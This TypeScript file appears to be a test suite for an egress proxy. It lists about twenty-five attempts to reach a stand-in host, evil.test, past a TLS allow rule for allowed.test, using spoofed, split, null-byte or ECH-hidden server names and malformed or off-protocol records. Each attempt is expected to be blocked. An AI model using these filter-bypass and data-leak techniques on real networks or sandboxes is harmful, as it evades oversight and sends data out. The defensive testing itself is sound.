import type { Attack } from '../attack.ts';
import { clientHello, type Greeting } from './client-hello.ts';
import { numbered, request } from './steps.ts';

const hello = (greeting: Greeting, to = 'allowed.test:443'): Attack['step'] => ({
  kind: 'write',
  hex: true,
  to,
  pieces: [clientHello(greeting)],
});
const GET = request('GET /{LEAK} HTTP/1.1', 'Host: evil.test');

/** Greetings whose name is not the one that was allowed, in all the ways in which a reader could miss it. */
export const tls: readonly Attack[] = numbered('T', 'tls', [
  { what: 'another name', step: hello({ names: ['leak-1.evil.test'] }), stopped: 'network.mismatch' },
  {
    what: 'another name, through CONNECT',
    step: { kind: 'tls', to: 'allowed.test:443', name: 'evil.test', pieces: [GET] },
    stopped: 'network.mismatch',
  },
  { what: 'no name', step: { kind: 'tls', to: 'allowed.test:443', name: null, pieces: [GET] }, stopped: 'network.mismatch' },
  { what: 'two names in one list', step: hello({ names: ['allowed.test', 'leak-2.evil.test'] }), stopped: 'network.mismatch' },
  {
    what: 'the extension twice',
    step: hello({ names: ['allowed.test', 'leak-3.evil.test'], twice: true }),
    stopped: 'network.mismatch',
  },
  {
    what: 'another name, the greeting in two records',
    step: hello({ names: ['leak-4.evil.test'], splitAt: 60 }),
    stopped: 'network.mismatch',
  },
  {
    what: 'another name, the first record one byte long',
    step: hello({ names: ['leak-5.evil.test'], splitAt: 1 }),
    stopped: 'network.mismatch',
  },
  {
    what: 'another name, the greeting byte by byte',
    step: {
      kind: 'write',
      hex: true,
      to: 'allowed.test:443',
      pause: 1,
      pieces: clientHello({ names: ['leak-6.evil.test'] }).match(/../g) ?? [],
    },
    stopped: 'network.mismatch',
  },
  { what: 'a name with a zero byte', step: hello({ names: ['leak-7.evil.test\0.allowed.test'] }), stopped: 'network.mismatch' },
  { what: 'a name with a space', step: hello({ names: ['allowed.test leak-8'] }), stopped: 'network.mismatch' },
  { what: 'an address for a name', step: hello({ names: ['203.0.113.66'] }), stopped: 'network.mismatch' },
  { what: 'an empty name', step: hello({ names: [''] }), stopped: 'network.mismatch' },
  {
    what: 'another name beside an encrypted one (ECH)',
    step: hello({ names: ['leak-9.evil.test'], more: [[0xfe0d, '00'.repeat(64)]] }),
    stopped: 'network.mismatch',
  },
  {
    what: 'another name, and ALPN of a certificate authority',
    step: hello({ names: ['leak-10.evil.test'], more: [[16, '000b0a61636d652d746c732f31']] }),
    stopped: 'network.mismatch',
  },
  {
    what: 'another name, after a silence in which the proxy stops waiting',
    step: {
      kind: 'write',
      hex: true,
      to: 'allowed.test:9000',
      silent: 700,
      pieces: [clientHello({ names: ['leak-11.evil.test'] })],
    },
    stopped: 'network.mismatch',
  },
  {
    what: 'another name on another port of the rule',
    step: hello({ names: ['leak-12.evil.test'] }, 'allowed.test:9000'),
    stopped: 'network.mismatch',
  },
  {
    what: 'another name on the port for plain HTTP',
    step: hello({ names: ['leak-13.evil.test'] }, 'allowed.test:80'),
    stopped: 'network.mismatch',
  },
  {
    what: 'plain HTTP on the port for TLS',
    step: { kind: 'write', to: 'allowed.test:443', pieces: [GET] },
    stopped: 'network.mismatch',
  },
  {
    what: 'neither TLS nor HTTP on the port for TLS',
    step: { kind: 'write', to: 'allowed.test:443', pieces: ['SSH-2.0-{LEAK}\r\n'] },
    stopped: 'network.mismatch',
  },
  {
    what: 'the greeting of SSL 2 on the port for TLS',
    step: { kind: 'write', hex: true, to: 'allowed.test:443', pieces: ['802b0100020012000000104c45414b2d'] },
    stopped: 'network.mismatch',
  },
  {
    what: 'a handshake that is no greeting',
    step: { kind: 'write', hex: true, to: 'allowed.test:443', pieces: ['1603010009020000054c45414b2d'] },
    stopped: 'network.mismatch',
  },
  {
    what: 'a record of no length',
    step: { kind: 'write', hex: true, to: 'allowed.test:443', pieces: ['1603010000'.repeat(3)] },
    stopped: 'network.mismatch',
  },
  {
    what: 'an alert in the middle of the greeting',
    step: { kind: 'write', hex: true, to: 'allowed.test:443', pieces: ['16030100040100010015030100024c45'] },
    stopped: 'network.mismatch',
  },
  {
    what: 'a greeting longer than any',
    step: { kind: 'write', hex: true, to: 'allowed.test:443', pieces: [`160301400001ffffff${'4c'.repeat(16_380)}`] },
    stopped: 'network.mismatch',
  },
  {
    what: 'a greeting whose lengths do not fit',
    step: {
      kind: 'write',
      hex: true,
      to: 'allowed.test:443',
      pieces: [`160301002a010000260303${'4c'.repeat(32)}ff000000`],
    },
    stopped: 'network.mismatch',
  },
]);
